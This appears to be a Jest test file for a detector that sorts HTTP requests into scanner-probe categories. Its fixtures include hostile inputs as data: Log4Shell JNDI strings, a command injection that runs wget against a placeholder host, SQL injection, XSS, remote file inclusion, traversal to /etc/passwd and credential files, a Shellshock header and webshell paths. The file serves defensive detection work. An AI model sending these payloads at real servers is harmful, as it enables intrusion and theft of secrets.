import { describe, expect, it } from '@jest/globals';
import { requestProbe, type RequestProbe } from './request-probe.js';

const PROBES: readonly (readonly [RequestProbe, readonly string[]])[] = [
  [
    'sensitive_file',
    [
      '/.env',
      '/app/.env.production',
      '/.git/config',
      '/%2egit/HEAD',
      '/.aws/credentials',
      '/wp-config.php.bak',
      '/index.php~',
      '/backup.zip',
      '/old/db_backup.sql.gz',
      '/.DS_Store',
      '/phpinfo.php',
      '/docker-compose.yml',
      '/.ssh/id_rsa',
      '/id_rsa',
    ],
  ],
  [
    'admin_panel',
    [
      '/phpmyadmin/index.php?lang=en',
      '/phpMyAdmin-4.8.1/',
      '/PMA2020/index.php',
      '/manager/html',
      '/actuator',
      '/actuator/env',
      '/solr/admin/info/system?wt=json',
      '/boaform/admin/formLogin',
      '/HNAP1',
      '/cgi-bin/luci',
      '/owa/auth/logon.aspx',
      '/remote/login?lang=en',
      '/+CSCOE+/logon.html',
      '/server-status',
      '/mysql/dbadmin/index.php',
    ],
  ],
  [
    'exploit',
    [
      '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
      '/?x=${jndi:ldap://a.b/c}',
      '/?x=%24%7Bjndi:ldap://a.b/c%7D',
      '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array',
      '/_ignition/execute-solution',
      '/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh',
      '/?class.module.classLoader.URLs%5B0%5D=0',
      '/setup.cgi?next_file=netgear.cfg&todo=syscmd',
      '/?a=1;wget%20http://192.0.2.1/x',
      '/%24%7B%28%23a%3D%40org.apache.commons.io%29%7D',
      '/?XDEBUG_SESSION_START=phpstorm',
    ],
  ],
  [
    'injection',
    [
      "/item?id=1'%20OR%20'1'='1",
      '/item?id=1%20UNION%20ALL%20SELECT%20null,null',
      '/item?id=1+and+sleep(5)',
      '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
      '/search?q=%253Cscript%253E',
      '/?name={{7*7}}',
      '/start.php?lang=http://192.0.2.7/rfi.txt?',
      '/?page=php://filter/convert',
      '/?a=information_schema.tables',
    ],
  ],
  [
    'traversal',
    [
      '/../../etc/passwd',
      '/%2e%2e/%2e%2e/etc/passwd',
      '/..%252f..%252fetc',
      '/download?file=../../../../etc/passwd',
      '/static/..;/manager/html',
      '/?f=..\\..\\windows\\win.ini',
      '/etc/passwd%3f',
      '/cgi-bin/.%2e/.%2e/etc/passwd',
    ],
  ],
  [
    'webshell',
    [
      '/alfa.php',
      '/wso.php',
      '/shell.php',
      '/Config_Shell.php',
      '/c99.php',
      '/wp-content/uploads/2026/11/x.php',
      '/wp-includes/fonts/index.php',
      '/.well-known/acme-challenge/up.php',
      '/1.php',
      '/qq.php',
      '/x.php',
    ],
  ],
  [
    'enumeration',
    [
      '/?author=1',
      '/wp-json/wp/v2/users',
      '/?rest_route=/wp/v2/users/',
      '/blog/wp-includes/wlwmanifest.xml',
      '/readme.html',
      '/license.txt',
      '/CHANGELOG.txt',
      '/wp-content/plugins/jetpack/readme.txt',
      '/nice%20ports%2C/Tri%6Eity.txt%2ebak',
    ],
  ],
  [
    '',
    [
      '/',
      '/index.html',
      '/robots.txt',
      '/sitemap.xml',
      '/favicon.ico',
      '/ads.txt',
      '/.well-known/security.txt',
      '/.well-known/acme-challenge/abc',
      '/apple-touch-icon.png',
      '/browserconfig.xml',
      '/wp-login.php',
      '/wp-admin/admin-ajax.php?action=heartbeat',
      '/wp-admin/load-scripts.php?load%5Bchunk_0%5D=jquery,utils',
      '/xmlrpc.php',
      '//xmlrpc.php?rsd',
      '/fonts/../fonts/x.eot?#iefix',
      '/css/../img/a.png',
      '/actuator/health',
      '/search?q=union+jack+selection',
      "/search?q=don't+panic",
      '/search?q=select+a+hat+from+us',
      '/?redirect_to=https%3A%2F%2Fshop.example%2Fcart%3Fa%3D1',
      '/index.php?rest_route=%2Fwp%2Fv2%2Fusers%2Fme&_locale=user',
      '/wp-json/wp/v2/users/?context=edit',
      '/level/1',
      '/novel/the-shell',
      '/datasets/iris.json.zip',
      '/wp-includes/js/tinymce/wp-tinymce.php',
      '/docs/backdoor.php',
    ],
  ],
];

describe('requestProbe', () => {
  it.each(PROBES.flatMap(([probe, urls]) => urls.map((url) => [url, probe] as const)))(
    'takes %s for %p',
    (url, probe) => {
      const question = url.indexOf('?');
      const path = question < 0 ? url : url.slice(0, question);
      const query = question < 0 ? '' : url.slice(question + 1);
      expect(requestProbe('GET', path, query, '')).toBe(probe);
    },
  );

  it.each([
    ['CONNECT google.com:443 HTTP/1.1', 'open_proxy'],
    ['GET http://203.0.113.9/azenv.php HTTP/1.1', 'open_proxy'],
    [String.raw`\x16\x03\x01\x02`, 'protocol'],
    ['SSH-2.0-Go', 'protocol'],
    ['HELP', 'protocol'],
    ['-', ''],
  ])('takes the request line %s for %p', (line, probe) => {
    expect(requestProbe('', '', '', line)).toBe(probe);
  });

  it('knows methods of other protocols', () => {
    expect(requestProbe('PRI', '*', '', '')).toBe('protocol');
    expect(requestProbe('SSTP_DUPLEX_POST', '/sra_x/', '', '')).toBe('protocol');
    expect(requestProbe('OPTIONS', '*', '', '')).toBe('');
  });

  it('finds payloads in headers', () => {
    expect(requestProbe('GET', '/', '', '', '${jndi:ldap://192.0.2.1/a}')).toBe('exploit');
    expect(requestProbe('GET', '/', '', '', '() { :; }; /bin/id')).toBe('exploit');
    expect(requestProbe('GET', '/', '', '', 'Mozilla/5.0 {odd}')).toBe('');
  });

  it('looks at the longest URLs within the budget of a line', () => {
    const texts = [
      "'",
      '{{',
      '%25',
      '../',
      '<a',
      'select ',
      '=http://a.php',
      '$(a',
      '.php.',
      'union ',
    ];
    for (const text of texts) {
      const long = text.repeat(8192 / text.length);
      const start = process.cpuUsage();
      requestProbe('GET', `/${long}`, long, '');
      expect(process.cpuUsage(start).user).toBeLessThan(100_000);
    }
  });
});
